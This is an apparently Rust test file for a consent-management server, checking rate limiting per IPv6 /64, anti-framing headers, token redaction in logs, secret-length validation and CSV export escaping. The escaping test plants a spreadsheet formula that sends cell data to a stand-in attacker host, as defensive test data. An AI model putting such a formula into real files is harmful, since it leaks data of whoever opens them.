//! What the public pages give away and how they hold up: the rate limit's keys and memory,
//! the headers that stop framing, the request log, settings checked at start.

use std::process::Stdio;
use std::time::Duration;

use reqwest::StatusCode;
use serde_json::json;

use crate::cli::{consento, free_port, wait_until_healthy};
use crate::helpers::{TestApp, TestDatabase, spawn_app, spawn_app_with};

async fn page_from(app: &TestApp, client_ip: &str) -> StatusCode {
    app.client
        .get(app.url("/unsubscribe/not-a-token"))
        .header("x-forwarded-for", client_ip)
        .send()
        .await
        .unwrap()
        .status()
}

#[tokio::test]
async fn the_public_rate_limit_counts_the_addresses_of_one_ipv6_64_as_one() {
    let app = spawn_app_with(|settings| {
        settings.public_rate_limit_per_minute = 2;
        settings.trusted_proxies = vec!["127.0.0.1".parse().unwrap()];
    })
    .await;
    assert_eq!(page_from(&app, "2001:db8:0:7::1").await, StatusCode::NOT_FOUND);
    assert_eq!(page_from(&app, "2001:db8:0:7:ffff::2").await, StatusCode::NOT_FOUND);
    assert_eq!(page_from(&app, "2001:db8:0:7:1234:5678:9abc:def0").await, StatusCode::TOO_MANY_REQUESTS);
    // The next /64 is someone else.
    assert_eq!(page_from(&app, "2001:db8:0:8::1").await, StatusCode::NOT_FOUND);
    // An IPv4 address written as IPv6 is that IPv4 address.
    assert_eq!(page_from(&app, "192.0.2.9").await, StatusCode::NOT_FOUND);
    assert_eq!(page_from(&app, "::ffff:192.0.2.9").await, StatusCode::NOT_FOUND);
    assert_eq!(page_from(&app, "192.0.2.9").await, StatusCode::TOO_MANY_REQUESTS);
}

#[tokio::test]
async fn the_public_rate_limit_holds_a_bounded_number_of_addresses_forgetting_the_oldest() {
    let app = spawn_app_with(|settings| {
        settings.public_rate_limit_per_minute = 1;
        settings.rate_limit_max_keys = 3;
        settings.trusted_proxies = vec!["127.0.0.1".parse().unwrap()];
    })
    .await;
    assert_eq!(page_from(&app, "2001:db8:1::1").await, StatusCode::NOT_FOUND);
    assert_eq!(page_from(&app, "2001:db8:1::1").await, StatusCode::TOO_MANY_REQUESTS);
    for block in 2..50 {
        assert_eq!(page_from(&app, &format!("2001:db8:{block}::1")).await, StatusCode::NOT_FOUND);
        assert!(app.state.limiter.len() <= 3, "{} addresses held", app.state.limiter.len());
    }
    // The first address was forgotten to make room: it starts again.
    assert_eq!(page_from(&app, "2001:db8:1::1").await, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn public_pages_and_the_embed_snippet_forbid_framing() {
    let app = spawn_app().await;
    app.form_on_new_list("framed", "double", json!({})).await;
    for path in
        ["/f/framed", "/unsubscribe/not-a-token", "/preferences/not-a-token", "/confirm/not-a-token", "/f/framed/embed"]
    {
        let response = app.client.get(app.url(path)).send().await.unwrap();
        let csp = response.headers()["content-security-policy"].to_str().unwrap().to_owned();
        assert!(csp.contains("frame-ancestors 'none'"), "{path}: {csp}");
        assert!(csp.contains("default-src 'none'"), "{path}: {csp}");
    }
    let page = app.client.get(app.url("/f/framed")).send().await.unwrap();
    let csp = page.headers()["content-security-policy"].to_str().unwrap();
    assert!(csp.contains("style-src 'unsafe-inline'") && csp.contains("base-uri 'none'"), "{csp}");
}

#[tokio::test]
async fn the_request_log_names_the_route_of_a_persons_link_never_its_token() {
    let database = TestDatabase::new();
    let port = free_port();
    let log_path = database.data_dir.with_extension("log");
    let log = std::fs::File::create(&log_path).unwrap();
    let mut child = consento(&database)
        .arg("serve")
        .env("CONSENTO_LISTEN", format!("127.0.0.1:{port}"))
        .env("CONSENTO_PLUGINS_DIR", concat!(env!("CARGO_MANIFEST_DIR"), "/plugins"))
        .env("CONSENTO_LOG", "info")
        .env("CONSENTO_LOG_FORMAT", "json")
        .stdout(Stdio::null())
        .stderr(log)
        .spawn()
        .unwrap();
    let client = crate::helpers::client();
    let base = format!("http://127.0.0.1:{port}");
    wait_until_healthy(&client, &base).await;
    let secret = "TokenThatMustNotBeLogged0123456789";
    for path in ["/confirm", "/unsubscribe", "/preferences", "/s", "/t"] {
        client.get(format!("{base}{path}/{secret}")).send().await.unwrap();
    }
    client.post(format!("{base}/unsubscribe/{secret}")).send().await.unwrap();
    client.get(format!("{base}/api/v1/contacts/plain-path")).send().await.unwrap();
    tokio::time::sleep(Duration::from_millis(300)).await;
    let _ = child.kill();
    let _ = child.wait();
    let text = std::fs::read_to_string(&log_path).unwrap();
    let _ = std::fs::remove_file(&log_path);
    assert!(!text.contains(secret), "the log holds the token:\n{text}");
    for route in ["/confirm/{token}", "/unsubscribe/{token}", "/preferences/{token}", "/s/{token}", "/t/{token}"] {
        assert!(text.contains(&format!("\"path\":\"{route}\"")), "{route} missing from\n{text}");
    }
    // Other paths are still logged as they came.
    assert!(text.contains("\"path\":\"/api/v1/contacts/plain-path\""), "{text}");
}

#[tokio::test]
async fn a_short_bounce_secret_stops_the_start_with_a_clear_message() {
    let database = TestDatabase::new();
    let output = consento(&database)
        .arg("serve")
        .env("CONSENTO_LISTEN", format!("127.0.0.1:{}", free_port()))
        .env("CONSENTO_BOUNCE_SECRET", "s3cret")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("bounce_secret (CONSENTO_BOUNCE_SECRET) must be at least 24 characters"), "{stderr}");
    assert!(!stderr.contains("s3cret"), "the secret is printed: {stderr}");

    let built = consento::startup::Application::build(consento::settings::Settings {
        listen: "127.0.0.1:0".to_owned(),
        data_dir: database.data_dir.clone(),
        database_url: database.url(),
        bounce_secret: Some(consento::settings::Secret::new("too short")),
        ..Default::default()
    })
    .await;
    assert!(built.is_err(), "the application started with a short bounce secret");
}

#[tokio::test]
async fn a_csv_export_escapes_cells_a_spreadsheet_would_run_and_imports_back_as_it_was() {
    let app = spawn_app().await;
    app.create_contact(json!({
        "email": "formula@example.org",
        "company": "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "tags": ["-vip"],
        "attributes": {"note": "+1 555"}
    }))
    .await;
    let response = app.get("/api/v1/contacts/export?format=csv").send().await.unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let body = response.bytes().await.unwrap();
    let mut reader = csv::Reader::from_reader(body.as_ref());
    let headers = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| row.get(headers.iter().position(|h| h == name).unwrap()).unwrap().to_owned();
    assert_eq!(cell("company"), "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")");
    assert_eq!(cell("tags"), "'-vip");
    assert_eq!(cell("email"), "formula@example.org");
    // Every cell of the export: none begins with what a spreadsheet runs.
    for cell in row.iter() {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell}");
    }

    let target = spawn_app().await;
    target.create_list("Customers").await;
    let options =
        json!({"format": "csv", "lists": ["Customers"], "basis": "single_opt_in", "consent_text": "Yes to the news"});
    let (status, job) = target.send(target.post("/api/v1/imports", &options)).await;
    assert_eq!(status, StatusCode::CREATED, "{job}");
    let upload = job["upload_url"].as_str().unwrap();
    let (status, _) = target.send(target.admin(target.client.put(target.url(upload))).body(body.to_vec())).await;
    assert_eq!(status, StatusCode::ACCEPTED);
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    let contact = loop {
        if let Some(contact) = target.contact_by_email("formula@example.org").await {
            break contact;
        }
        assert!(std::time::Instant::now() < deadline, "the import did not bring the contact");
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    assert_eq!(contact["company"], "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")");
    assert_eq!(contact["tags"], json!(["-vip"]));
}
